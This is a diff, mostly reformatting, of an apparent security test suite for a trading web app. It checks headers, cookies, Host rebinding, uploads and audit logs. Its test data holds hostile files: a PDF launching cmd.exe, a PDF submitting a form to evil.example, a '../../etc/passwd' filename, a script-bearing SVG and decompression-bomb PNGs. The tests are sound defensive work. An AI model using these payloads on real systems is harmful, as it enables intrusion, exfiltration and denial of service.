@@ -7,13 +7,39 @@ import type { Stage } from '../stage';
 
 const HEADERS: readonly [what: string, path: string, name: string, good: (value: string) => boolean][] = [
   ['the page may be framed', '/', 'content-security-policy', (value) => value.includes("frame-ancestors 'none'")],
-  ['scripts of other places run', '/', 'content-security-policy', (value) => /script-src 'self'(;| |$)/.test(value) && !value.includes('unsafe-inline') && !value.includes('unsafe-eval')],
-  ['a script speaks to any host by WebSocket', '/', 'content-security-policy', (value) => !/connect-src[^;]* wss?:( |;|$)/.test(value)],
-  ['markup becomes script (Trusted Types)', '/', 'content-security-policy', (value) => value.includes('require-trusted-types-for')],
+  [
+    'scripts of other places run',
+    '/',
+    'content-security-policy',
+    (value) =>
+      /script-src 'self'(;| |$)/.test(value) && !value.includes('unsafe-inline') && !value.includes('unsafe-eval'),
+  ],
+  [
+    'a script speaks to any host by WebSocket',
+    '/',
+    'content-security-policy',
+    (value) => !/connect-src[^;]* wss?:( |;|$)/.test(value),
+  ],
+  [
+    'markup becomes script (Trusted Types)',
+    '/',
+    'content-security-policy',
+    (value) => value.includes('require-trusted-types-for'),
+  ],
   ['a base element moves every link', '/', 'content-security-policy', (value) => value.includes("base-uri 'none'")],
   ['types are guessed', '/', 'x-content-type-options', (value) => value === 'nosniff'],
-  ['camera and location are asked for', '/', 'permissions-policy', (value) => value.includes('camera') && value.includes('geolocation')],
-  ['addresses leak to other sites', '/', 'referrer-policy', (value) => value === 'same-origin' || value === 'no-referrer'],
+  [
+    'camera and location are asked for',
+    '/',
+    'permissions-policy',
+    (value) => value.includes('camera') && value.includes('geolocation'),
+  ],
+  [
+    'addresses leak to other sites',
+    '/',
+    'referrer-policy',
+    (value) => value === 'same-origin' || value === 'no-referrer',
+  ],
   ['private answers are kept by a cache', '/api/session', 'cache-control', (value) => value.includes('no-store')],
   ['refusals are kept by a cache', '/api/balances', 'cache-control', (value) => value.includes('no-store')],
   ['unknown routes are kept by a cache', '/api/none-such', 'cache-control', (value) => value.includes('no-store')],
@@ -34,7 +60,9 @@ const headers: Attack[] = [
     id: 'HEADERS 12',
     what: 'a cookie is read by scripts, or sent along by other sites',
     run: async (stage) => {
-      const answer = await stage.stranger().ask('POST', '/api/session', { body: { email: (await stage.account()).email, password: 'a sturdy phrase of this attack' } });
+      const answer = await stage.stranger().ask('POST', '/api/session', {
+        body: { email: (await stage.account()).email, password: 'a sturdy phrase of this attack' },
+      });
       const cookie = answer.headers['set-cookie']?.join(' ') ?? '';
       held(/HttpOnly/i.test(cookie) && /SameSite=(Lax|Strict)/i.test(cookie), cookie.replace(/=[^;]+/, '=...'));
       return 'HttpOnly, SameSite';
@@ -44,7 +72,9 @@ const headers: Attack[] = [
     id: 'A15.1',
     what: 'another Host with the same Origin is taken for our page',
     run: async (stage) => {
-      const { status, code } = await stage.trader.ask('DELETE', '/api/orders?symbol=ETHUSDT', { headers: { host: 'rebind.evil.example', origin: 'http://rebind.evil.example' } });
+      const { status, code } = await stage.trader.ask('DELETE', '/api/orders?symbol=ETHUSDT', {
+        headers: { host: 'rebind.evil.example', origin: 'http://rebind.evil.example' },
+      });
       held(status >= 400, `${status} ${code}`);
       return `${status} ${code}`;
     },
@@ -68,7 +98,12 @@ export function pngOf(width: number, height: number, bits: 1 | 8 | 16 = 1, colou
   const channels = { 0: 1, 2: 3, 6: 4 }[colour];
   const row = 1 + Math.ceil((width * bits * channels) / 8);
   const lines = Math.min(height, Math.floor(400_000_000 / row));
-  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', head), chunk('IDAT', deflateSync(Buffer.alloc(row * lines), { level: 9 })), chunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    Buffer.from('89504e470d0a1a0a', 'hex'),
+    chunk('IHDR', head),
+    chunk('IDAT', deflateSync(Buffer.alloc(row * lines), { level: 9 })),
+    chunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
 function crc32(bytes: Buffer): number {
@@ -80,7 +115,11 @@ function crc32(bytes: Buffer): number {
   return (crc ^ 0xffffffff) >>> 0;
 }
 
-const PDF = (body: string): Buffer => Buffer.from(`%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R${body}>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`, 'latin1');
+const PDF = (body: string): Buffer =>
+  Buffer.from(
+    `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R${body}>>endobj\n2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
+    'latin1',
+  );
 const FILES: readonly [what: string, mime: string, make: () => Buffer][] = [
   ['a picture of 1 by 60,000,000', 'image/png', () => pngOf(1, 60_000_000)],
   ['a picture of 60,000,000 by 1', 'image/png', () => pngOf(60_000_000, 1)],
@@ -93,21 +132,37 @@ const FILES: readonly [what: string, mime: string, make: () => Buffer][] = [
   ['a PDF that starts a program', 'application/pdf', () => PDF('/OpenAction<</S/Launch/F(cmd.exe)>>')],
   ['a PDF that sends a form away', 'application/pdf', () => PDF('/AA<</O<</S/SubmitForm/F(http://evil.example)>>>>')],
   ['a PDF with a file inside', 'application/pdf', () => PDF('/Names<</EmbeddedFiles<</Names[(a)<</EF<<>>>>]>>>>')],
-  ['a PDF that is a ZIP too', 'application/pdf', () => Buffer.concat([PDF(''), Buffer.from('504b0304140000000800', 'hex')])],
+  [
+    'a PDF that is a ZIP too',
+    'application/pdf',
+    () => Buffer.concat([PDF(''), Buffer.from('504b0304140000000800', 'hex')]),
+  ],
   ['a web page as a PDF', 'application/pdf', () => Buffer.from('<html><script>alert(1)</script></html>%PDF-1.4')],
-  ['an SVG with a script', 'image/png', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
+  [
+    'an SVG with a script',
+    'image/png',
+    () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+  ],
   ['a ZIP as a picture', 'image/png', () => Buffer.from('504b03041400000008000000000000000000', 'hex')],
   ['a file of nothing', 'image/png', () => Buffer.alloc(0)],
 ];
 
 /** An identity application with this file, by an account of its own. Answers its status, and how long a reader waited meanwhile (ms). */
-async function upload(stage: Stage, mime: string, bytes: Buffer): Promise<{ status: number; code: string; userId: string; waitedMs: number }> {
+async function upload(
+  stage: Stage,
+  mime: string,
+  bytes: Buffer,
+): Promise<{ status: number; code: string; userId: string; waitedMs: number }> {
   const { email } = await stage.account();
   const browser = await stage.logged(email, `127.0.2.${1 + Math.floor(Math.random() * 200)}`);
-  const field = (name: string, value: string): string => `--x\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
+  const field = (name: string, value: string): string =>
+    `--x\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
   const number = createHash('sha256').update(randomBytes(8)).digest('hex').slice(0, 9).toUpperCase();
   const head = `${field('fullName', 'Ada Lovelace')}${field('country', 'GB')}${field('birthDate', '1990-05-17')}${field('documentType', 'passport')}${field('documentNumber', number)}--x\r\nContent-Disposition: form-data; name="document"; filename="../../etc/passwd"\r\nContent-Type: ${mime}\r\n\r\n`;
-  const sent = browser.ask('POST', '/api/kyc', { raw: Buffer.concat([Buffer.from(head), bytes, Buffer.from('\r\n--x--\r\n')]), headers: { 'content-type': 'multipart/form-data; boundary=x' } });
+  const sent = browser.ask('POST', '/api/kyc', {
+    raw: Buffer.concat([Buffer.from(head), bytes, Buffer.from('\r\n--x--\r\n')]),
+    headers: { 'content-type': 'multipart/form-data; boundary=x' },
+  });
   let waitedMs = 0;
   let done = false;
   void sent.finally(() => (done = true)).catch(() => undefined);
@@ -151,9 +206,18 @@ const audit: Attack[] = [
     quick: true,
     run: async (stage) => {
       const key = 'k'.repeat(64);
-      await stage.admin.ask('POST', '/api/admin/assets/SOL/pause', { body: { why: 'an attack' }, headers: { 'idempotency-key': key } });
-      await stage.admin.ask('POST', '/api/admin/assets/SOL/pause', { body: { why: null }, headers: { 'idempotency-key': `${'k'.repeat(63)}2` } });
-      await stage.admin.ask('POST', '/api/admin/markets/SOLUSDT', { body: { state: 'TRADING', insideOnly: false }, headers: { 'idempotency-key': key } });
+      await stage.admin.ask('POST', '/api/admin/assets/SOL/pause', {
+        body: { why: 'an attack' },
+        headers: { 'idempotency-key': key },
+      });
+      await stage.admin.ask('POST', '/api/admin/assets/SOL/pause', {
+        body: { why: null },
+        headers: { 'idempotency-key': `${'k'.repeat(63)}2` },
+      });
+      await stage.admin.ask('POST', '/api/admin/markets/SOLUSDT', {
+        body: { state: 'TRADING', insideOnly: false },
+        headers: { 'idempotency-key': key },
+      });
       for (const limit of [1, 2, 100]) {
         const { status } = await stage.admin.ask('GET', `/api/admin/audit-log?limit=${limit}`);
         held(status === 200, `limit ${limit}: ${status}`);
@@ -168,10 +232,20 @@ const audit: Attack[] = [
       const { email } = await stage.account({ role: 'admin' });
       const second = await stage.logged(email);
       const key = randomBytes(32).toString('hex');
-      const first = await stage.admin.ask('POST', '/api/admin/assets/XRP/pause', { body: { why: 'one' }, headers: { 'idempotency-key': key } });
-      const other = await second.ask('POST', '/api/admin/assets/LTC/pause', { body: { why: 'two' }, headers: { 'idempotency-key': key } });
-      for (const asset of ['XRP', 'LTC']) await stage.admin.ask('POST', `/api/admin/assets/${asset}/pause`, { body: { why: null } });
-      held(first.status === 200 && other.status === 200, `${first.status} ${first.code}, ${other.status} ${other.code}`);
+      const first = await stage.admin.ask('POST', '/api/admin/assets/XRP/pause', {
+        body: { why: 'one' },
+        headers: { 'idempotency-key': key },
+      });
+      const other = await second.ask('POST', '/api/admin/assets/LTC/pause', {
+        body: { why: 'two' },
+        headers: { 'idempotency-key': key },
+      });
+      for (const asset of ['XRP', 'LTC'])
+        await stage.admin.ask('POST', `/api/admin/assets/${asset}/pause`, { body: { why: null } });
+      held(
+        first.status === 200 && other.status === 200,
+        `${first.status} ${first.code}, ${other.status} ${other.code}`,
+      );
       return 'both are done';
     },
   },
@@ -182,9 +256,16 @@ const audit: Attack[] = [
       const canary = `canary-${randomBytes(6).toString('hex')}`;
       const { email, userId } = await stage.account();
       await stage.stranger().ask('POST', '/api/session', { body: { email, password: canary } });
-      const rows = await stage.query<{ user: string | null }>("SELECT user_id AS user FROM security_events WHERE kind = 'log-in' AND outcome = 'refused'");
-      held(rows.some(({ user }) => user === userId), 'no row tells of it');
-      const dumps = await stage.query<{ dump: string | null }>('SELECT GROUP_CONCAT(CONCAT_WS("|", kind, outcome, details) SEPARATOR ";") AS dump FROM security_events');
+      const rows = await stage.query<{ user: string | null }>(
+        "SELECT user_id AS user FROM security_events WHERE kind = 'log-in' AND outcome = 'refused'",
+      );
+      held(
+        rows.some(({ user }) => user === userId),
+        'no row tells of it',
+      );
+      const dumps = await stage.query<{ dump: string | null }>(
+        'SELECT GROUP_CONCAT(CONCAT_WS("|", kind, outcome, details) SEPARATOR ";") AS dump FROM security_events',
+      );
       held(!dumps[0]?.dump?.includes(canary), 'the password stands in it');
       return 'a row without the password';
     },
